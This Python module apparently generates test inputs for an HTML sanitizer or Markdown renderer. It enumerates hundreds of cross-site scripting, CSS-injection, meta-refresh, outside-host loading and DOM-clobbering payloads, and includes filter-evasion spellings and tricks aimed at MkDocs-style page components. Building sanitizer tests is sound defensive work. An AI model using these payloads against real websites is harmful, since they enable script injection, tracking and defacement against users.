"""Raw HTML in a body: every element and handler, every way to lead somewhere, what styles and what clobbers."""

from __future__ import annotations

from collections.abc import Iterator

from payloads.vocabulary import (
    CARRIERS,
    HANDLERS,
    HTML,
    LEADING,
    MATHML,
    OBSOLETE,
    SCHEMES,
    SVG,
    THEIR_NAMES,
    VOID,
)

OVER_ALL = "position:fixed;inset:0;z-index:99999;background:red"
RUNS = "onload=@run@ onerror=@run@ onfocus=@run@ onclick=@run@ onmouseover=@run@ onbegin=@run@ ontoggle=@run@"
LOADS = (
    'src="//far.example/@num@" href="//far.example/@num@" data="//far.example/@num@" xlink:href="//far.example/@num@" '
    'srcset="//far.example/@num@ 2x" poster="//far.example/@num@" background="//far.example/@num@" '
    'action="//far.example/@num@" formaction="//far.example/@num@" code="//far.example/@num@" rel=stylesheet'
)
SPACES = ("/", "\t", "\n", "\f", "\r", "/x/", " x=y ", ' "" ', "/'/", " / ", "\v", "\u00a0", "\x1f")
EQUALS = ("=", " = ", "\t=\n", "=\f", "=/**/", "==", "&equals;")
QUOTES = (
    "@run@",
    '"@run@"',
    "'@run@'",
    "`@run@`",
    "&#116;rip(@num@)",
    '"&#x74;rip(@num@)"',
    "@run@//",
    "(0,@run@)",
)
TAGS = (
    "<IMG",
    "<iMg",
    "<img\x00",
    "<\x00img",
    "<img/",
    "<\\img",
    "<<img",
    "< img",
    "<img<b",
    "<!img",
    "<?img",
    "</img",
    "<x:img",
    "<img\u3000",
    "<\uff49\uff4d\uff47",
    "<%img",
    "&lt;img",
    "<img\u00a0",
    "<img\v",
    "<image",
    "<input type=image",
)
STYLES = (
    OVER_ALL,
    f"{OVER_ALL};content:'@num@'",
    "background:url(//far.example/@num@)",
    "width:expression(@run@)",
    "behavior:url(//far.example/@num@)",
    "-moz-binding:url(//far.example/@num@)",
    "background:u\\72l(//far.example/@num@)",
    "text-align:left;position:fixed",
    "text-align:expression(@run@)",
    "text-align:url(//far.example/@num@)",
    "text-align:left}*{display:none",
    "--md-primary-fg-color:red",
    "list-style-image:url(javascript:@run@)",
    "text-align:left/*;*/;position:absolute",
    "text-align:left;;;position:sticky;top:0",
    "TEXT-ALIGN:left;POSITION:fixed",
    "animation:x 1s",
    "transform:scale(99)",
    "margin-top:-9999px",
    "font-size:9999px",
    "display:none",
    "cursor:none",
    "pointer-events:none",
    "text-align:var(--x,url(//far.example/@num@))",
    "text-align:\\70osition",
    "zoom:9",
    "position:fixed !important",
    "anchor-name:--x",
    "view-transition-name:x",
    "@import url(//far.example/@num@)",
)
SHEETS = (
    "*{display:none}",
    ".md-header{display:none}",
    "@import '//far.example/@num@';",
    "body{background:url(//far.example/@num@)}",
    "@font-face{font-family:x;src:url(//far.example/@num@)}",
    "html{filter:invert(1)}",
    "@namespace url(//far.example/@num@);",
    ".br-head__marking{visibility:hidden}",
    ":root{--md-primary-fg-color:red}",
    "a[href^=j]{background:url(//far.example/@num@)}",
)
METAS = (
    'http-equiv=refresh content="0;url=//far.example/@num@"',
    'http-equiv=refresh content="0;url=javascript:@run@"',
    'http-equiv=refresh content="0;url=data:text/html;base64,@b64@"',
    'http-equiv=set-cookie content="a=@num@"',
    'http-equiv=content-security-policy content="default-src *"',
    "http-equiv=x-dns-prefetch-control content=on",
    'http-equiv=content-type content="text/html;charset=utf-7"',
    "charset=utf-7",
    "name=referrer content=unsafe-url",
    'http-equiv=link content="<//far.example/@num@>;rel=stylesheet"',
    'name=viewport content="width=1"',
    "http-equiv=default-style content=x",
    "name=color-scheme content=dark",
    "name=theme-color content=red",
)
RELS = (
    "stylesheet",
    "preload as=script",
    "modulepreload",
    "prefetch",
    "prerender",
    "preconnect",
    "dns-prefetch",
    "icon",
    "manifest",
    "import",
    "alternate stylesheet",
    "next",
    "search",
    "pingback",
    "expect blocking=render",
    "alternate",
)
DECLARATIVE = (
    "<template shadowrootmode=open><img src=x onerror=@run@></template>",
    "<div><template shadowrootmode=closed><style>:host{position:fixed;inset:0}</style><script>@run@</script></template></div>",
    "<div popover=auto id=pop@num@ style='inset:0'>x</div><button popovertarget=pop@num@>y</button>",
    "<button commandfor=d@num@ command=show-modal>x</button><dialog id=d@num@ onbeforetoggle=@run@>y</dialog>",
    "<dialog open style='position:fixed;inset:0' onclose=@run@>x</dialog>",
    "<div contenteditable autofocus onfocus=@run@ oninput=@run@>x</div>",
    "<p accesskey=x onclick=@run@ tabindex=1 draggable=true ondragstart=@run@>x</p>",
    "<p hidden=until-found onbeforematch=@run@>x</p>",
    "<p inert hidden>x</p>",
    "<p itemscope itemprop=x itemid=//far.example/@num@>x</p>",
    "<p slot=x part=y is=z-z exportparts=a nonce=@num@>x</p>",
    "<details open name=x ontoggle=@run@><summary>s</summary>t</details>",
    '<script type=speculationrules>{"prefetch":[{"urls":["//far.example/@num@"]}]}</script>',
    '<script type=importmap>{"imports":{"x":"//far.example/@num@"}}</script>',
    "<script type=module>@run@</script>",
    "<script nomodule>@run@</script>",
    "<script src=//far.example/@num@></script>",
    "<script>@run@</script>",
    "<script\n>@run@</script\n>",
    "<script/x>@run@</script>",
    "<SCRIPT>@run@</SCRIPT>",
    "<scr<script>ipt>@run@</script>",
    "<script>/*<!--<script>*/@run@</script>",
    "<script type='text/babel' language=vbscript>@run@</script>",
    "<script xlink:href=data:,@run@ />",
    "<svg><script href=data:,@run@ /></svg>",
    "<svg><script>@run@</script></svg>",
    "<svg><script>&#116;rip(@num@)</script></svg>",
    "<svg onload=@run@>",
    "<svg/onload=@run@//",
    "<svg><a xlink:href=javascript:@run@><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=@run@ attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onmouseover to=@run@></svg>",
    "<svg><a><animate attributeName=href values=javascript:@run@ /><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=@run@ /></svg>#x'></use></svg>",
    "<svg><image href=//far.example/@num@ onerror=@run@></svg>",
    "<svg><foreignObject><img src=x onerror=@run@></foreignObject></svg>",
    "<svg><style>*{display:none}@import'//far.example/@num@'</style></svg>",
    "<svg><discard onbegin=@run@></svg>",
    "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>@run@</handler></svg>",
    "<math><maction actiontype='statusline#//far.example' xlink:href='javascript:@run@'>x</maction></math>",
    "<math href='javascript:@run@'>x</math>",
    "<math><mi href=javascript:@run@ onclick=@run@>x</mi></math>",
    "<object data='javascript:@run@'></object>",
    "<object type=text/html data='data:text/html;base64,@b64@'></object>",
    "<embed src='data:image/svg+xml;base64,@b64@'>",
    "<embed src=javascript:@run@ type=text/html>",
    "<iframe srcdoc='<script>trip(@num@)</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;@run@&lt;/script&gt;'></iframe>",
    "<iframe src=javascript:@run@></iframe>",
    "<iframe onload=@run@></iframe>",
    "<iframe src='data:text/html;base64,@b64@'></iframe>",
    "<iframe name=top src=//far.example/@num@ allow='*' sandbox></iframe>",
    "<form action=javascript:@run@><button autofocus>x</button></form>",
    "<form id=f@num@></form><button form=f@num@ formaction=javascript:@run@>x</button>",
    "<input autofocus onfocus=@run@>",
    "<input type=image src=x onerror=@run@>",
    "<input type=hidden oncontentvisibilityautostatechange=@run@ style=content-visibility:auto>",
    "<select autofocus onfocus=@run@><option>x</select>",
    "<textarea autofocus onfocus=@run@>x</textarea>",
    "<keygen autofocus onfocus=@run@>",
    "<video><source onerror=@run@></video>",
    "<video src=x onerror=@run@ autoplay></video>",
    "<audio src=x onerror=@run@></audio>",
    "<video poster=//far.example/@num@ onloadstart=@run@ src=x></video>",
    "<body onload=@run@ onpageshow=@run@>",
    "<body background=//far.example/@num@ class=x>",
    "<html onclick=@run@ class=no-js>",
    "<frameset onload=@run@><frame src=javascript:@run@></frameset>",
    "<marquee onstart=@run@ loop=1 width=0>x</marquee>",
    "<meter onmouseover=@run@>0</meter>",
    "<isindex action=javascript:@run@ type=image>",
    "<base href=//far.example/@num@/>",
    "<base target=x href='javascript:/a/-@run@//'>",
    "<bgsound src=//far.example/@num@>",
    "<layer src=//far.example/@num@></layer>",
    "<link rel=stylesheet href='data:text/css,*{display:none}'>",
    "<link rel=import href='data:text/html,<script>@run@</script>'>",
    "<applet code=x archive=//far.example/@num@></applet>",
    "<portal src='javascript:@run@' onload=@run@></portal>",
    "<map name=m@num@><area href=javascript:@run@ shape=default></map><img usemap=#m@num@ src=x>",
    "<picture><source srcset=//far.example/@num@><img src=x onerror=@run@></picture>",
    "<img srcset='//far.example/@num@ 2x, x 1x' onload=@run@>",
    "<img src=x onerror=@run@>",
    "<img src=x:x onerror=window.onerror=@run@;throw@num@>",
    "<img src=`x` onerror=@run@>",
    "<img loading=lazy src=x onerror=@run@>",
    "<img dynsrc=javascript:@run@ lowsrc=javascript:@run@>",
    "<img longdesc=javascript:@run@ src=x>",
    "<table background=javascript:@run@><tr><td background=//far.example/@num@>x</table>",
    "<img width=99999 height=99999 src=x align=left>",
    "<a href=javascript:@run@ download ping=//far.example/@num@ target=_top>x</a>",
    "<a href=x.md target=__config rel=stylesheet>x</a>",
    "<a href='#' attributionsrc=//far.example/@num@ hreflang=x type=text/html>x</a>",
    "<label for=__drawer>x</label><label for=__search>y</label>",
    "<label for=__palette_1>x</label>",
    "<input type=checkbox id=__drawer data-md-toggle=drawer checked>",
    "<input type=radio name=__palette id=__palette_2 checked>",
    "<input type=checkbox name=__tabbed_1 id=__search data-md-toggle=search checked>",
    "<div data-md-component=search data-md-level=0 data-md-type=navigation>x</div>",
    "<div data-md-component=content>x</div>",
    "<div data-md-component=header class='md-header br-header'>x</div>",
    '<script id=__config type=application/json>{"base":"//far.example/@num@","features":[]}</script>',
    '<div id=__config>{"base":"//far.example/@num@"}</div>',
    "<div data-tabs=1:1 class=tabbed-set>x</div>",
    "<p data-tabs>x</p>",
    "<p data-tabs=1:3><input><label>x</label></p>",
    "<div data-tabs=1:1><div class=tabbed-labels>x</div><input type=radio name=__tabbed_1 id=__tabbed_1_1></div>",
    "<a data-preview href='#no-such-place' class=footnote-ref>x</a>",
    "<a class=footnote-ref href=index.md#no-such-@num@>x</a>",
    "<sup><a class=footnote-ref href='https://far.example/@num@#x'>x</a></sup>",
    "<a data-preview href=javascript:@run@>x</a>",
    "<p class=annotate>x (1)</p><ol><li><img src=x onerror=@run@></li></ol>",
    "<pre class=annotate><code># (1)! <b>x</b></code></pre><ol><li>x</li></ol>",
    "<pre class=mermaid><code>graph TD; a-->b; click a call trip(@num@)</code></pre>",
    '<div class=mermaid>graph TD; a["<img src=x onerror=@run@>"]</div>',
    "<pre><code class='language-mermaid mermaid'>graph</code></pre>",
    "<pre><code><span id=__span-0-1>x</span></code></pre>",
    "<pre><code class='md-code__content language-x highlight'><span id=x>x</span></code></pre>",
    "<div class=highlight><pre class='select copy'><code><span id=x-y>x</span></code></pre></div>",
    "<div class='grid cards arithmatex'>\\(\\href{javascript:@run@}{x}\\)</div>",
    "<span class=arithmatex>$$\\unicode{<img src=x onerror=@run@>}$$</span>",
    "<div class=giscus data-repo=x></div><script src=//far.example/@num@ data-repo=x></script>",
    "<audio autoplay controls src=//far.example/@num@></audio>",
    "<canvas onclick=@run@ width=9999 height=9999></canvas>",
    "<p title='&lt;img src=x onerror=@run@&gt;'>x</p>",
    "<abbr title='<img src=x onerror=@run@>'>x</abbr>",
    "<span class=md-ellipsis title='&lt;img src=x onerror=@run@&gt;'>&lt;img src=x onerror=@run@&gt;</span>",
    "<a href=index.md title='&lt;img src=x onerror=@run@&gt;' data-preview>x</a>",
    "<img alt='&quot; onerror=@run@ x=&quot;' src='x&quot; onerror=@run@ x=&quot;'>",
    "<p aria-label='\"><img src=x onerror=@run@>' data-title='\"><img src=x onerror=@run@>' lang='\" onclick=@run@' dir='\" onclick=@run@'>x</p>",
    "<time datetime='\" onclick=@run@'>x</time>",
    "<ol start='1\" onclick=@run@' type='\" onclick=@run@'><li value='1\" onclick=@run@'>x</ol>",
    "<td colspan='9\" onclick=@run@'>x",
    "<table><tr><td colspan=1000 rowspan=65534>x</table>",
    "<ol reversed start=-99999999999999999999><li value=99999999999999999999>x</ol>",
    "<p role=alertdialog aria-modal=true aria-live=assertive>x</p>",
)


def every() -> Iterator[tuple[str, str]]:
    """Family and text of each payload."""
    yield from _elements()
    yield from _handlers()
    yield from _addresses()
    yield from _looks()
    for name in THEIR_NAMES:
        yield "clobbering", f'<a id="{name}" name="{name}"><b id="{name}">x</b></a>'
        form = f'<form name="{name}"><input name="{name}"></form>'
        yield "clobbering", f'<img id="{name}" name="{name}" src=x alt=x>{form}'
    for written in DECLARATIVE:
        yield "trick", written


def _elements() -> Iterator[tuple[str, str]]:
    for element in (*HTML, *OBSOLETE):
        yield "element runs", _closed(element, f"{RUNS} autofocus tabindex=0")
        yield "element loads", _closed(element, LOADS)
    for element in (*SVG, *MATHML):
        yield "drawing runs", f"<svg>{_closed(element, RUNS, leaf=True)}</svg>"
        yield "formula runs", f"<math><mtext>{_closed(element, RUNS)}</mtext></math>"
        yield "drawing loads", f"<svg>{_closed(element, f'{LOADS} filter=url(//far.example/@num@)')}</svg>"


def _handlers() -> Iterator[tuple[str, str]]:
    for number, handler in enumerate(HANDLERS):
        yield "handler", f"<{CARRIERS[number % len(CARRIERS)]} {handler}=@run@ src=x tabindex=0>x"
        yield "handler on a link", f'<a href=index.md {handler.upper()}="@run@">x</a>'
    for space in SPACES:
        yield "spelling", f"<img{space}src=x{space}onerror=@run@{space}>"
        yield "spelling", f"<b{space}onmouseover=@run@>x</b>"
    yield from (("spelling", f"<img src=x onerror{equals}@run@>") for equals in EQUALS)
    yield from (("spelling", f"<img src=x onerror={quoted}>") for quoted in QUOTES)
    yield from (("spelling", f"{tag} src=x onerror=@run@>") for tag in TAGS)


def _addresses() -> Iterator[tuple[str, str]]:
    for led in LEADING:
        element, _, attribute = led.partition(":")
        for address in ("javascript:@run@", "//far.example/@num@", "data:text/html;base64,@b64@"):
            yield "attribute that leads", _closed(element, f'{attribute}="{address}"')
    for scheme in SCHEMES:
        yield "scheme in a link", f'<a href="{_in_quotes(scheme)}">x</a>'
        yield "scheme in a picture", f'<img src="{_in_quotes(scheme)}" alt=x>'


def _looks() -> Iterator[tuple[str, str]]:
    for style in STYLES:
        yield "style", f'<p style="{style}">x</p>'
        yield "style", f'<table><tr><td style="{style}">x</td></tr></table>'
    for sheet in SHEETS:
        yield "style sheet", f"<style>{sheet}</style>"
        yield "style sheet", f"<svg><style>{sheet}</style></svg>"
    yield from (("meta", f"<meta {meta}>") for meta in METAS)
    yield from (("link element", f"<link rel={rel} href=//far.example/@num@>") for rel in RELS)


def _closed(element: str, attributes: str, *, leaf: bool = False) -> str:
    return f"<{element} {attributes}>" + ("" if element in VOID and not leaf else f"x</{element}>")


def _in_quotes(address: str) -> str:
    return address.replace('"', "&quot;")
